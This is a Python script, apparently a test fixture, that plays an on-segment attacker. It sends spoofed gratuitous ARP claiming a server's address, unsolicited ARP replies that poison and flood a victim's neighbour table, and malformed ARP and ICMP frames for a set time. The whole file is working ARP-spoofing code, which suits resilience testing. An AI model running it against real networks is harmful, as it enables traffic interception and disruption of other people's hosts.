#!/usr/bin/env python3
"""An attacker on the segment (scripts/neigh.sh, root): raw frames on IFACE for N seconds.

    arpflood.py IFACE CLAIM_IP VICTIM_IP VICTIM_MAC SECONDS

Each round sends, from IFACE's own MAC:
  * a gratuitous ARP claiming CLAIM_IP (the server's address) with the attacker's MAC,
    broadcast, and the same as an unsolicited reply to the victim (the client);
  * unsolicited ARP replies to the victim for 64 addresses nobody asked for (an attempt
    to grow its neighbour table);
  * malformed ARP (bad hardware type, truncated) and a malformed ICMP echo request (bad
    checksum) to the victim's MAC.
Prints the number of frames sent.
"""
import socket
import struct
import sys
import time

iface, claim, victim_ip, victim_mac, seconds = sys.argv[1:6]
ip = lambda s: socket.inet_aton(s)
mac = lambda s: bytes(int(b, 16) for b in s.split(":"))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
me = s.getsockname()[4][:6]
bcast, vmac = b"\xff" * 6, mac(victim_mac)


def arp(dst, op, smac, sip, tmac, tip, htype=1):
    frame = dst + me + b"\x08\x06" + struct.pack("!HHBBH", htype, 0x0800, 6, 4, op)
    frame += smac + sip + tmac + tip
    return frame.ljust(60, b"\0")


def bad_echo(dst):
    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 1, 0, ip(victim_ip), ip(victim_ip))
    return (dst + me + b"\x08\x00" + iph + struct.pack("!BBHHH", 8, 0, 0xBEEF, 1, 1)).ljust(60, b"\0")


frames = [
    arp(bcast, 1, me, ip(claim), b"\0" * 6, ip(claim)),
    arp(vmac, 2, me, ip(claim), vmac, ip(victim_ip)),
    arp(vmac, 2, me, ip(claim), vmac, ip(victim_ip), htype=6),
    arp(vmac, 2, me, ip(claim), vmac, ip(victim_ip))[:30],
    bad_echo(vmac),
]
frames += [arp(vmac, 2, me, ip("10.77.1.%d" % i), vmac, ip(victim_ip)) for i in range(64)]
sent, end = 0, time.time() + float(seconds)
while time.time() < end:
    for f in frames:
        try:
            s.send(f)
            sent += 1
        except OSError:
            pass
    time.sleep(0.001)
print(sent)
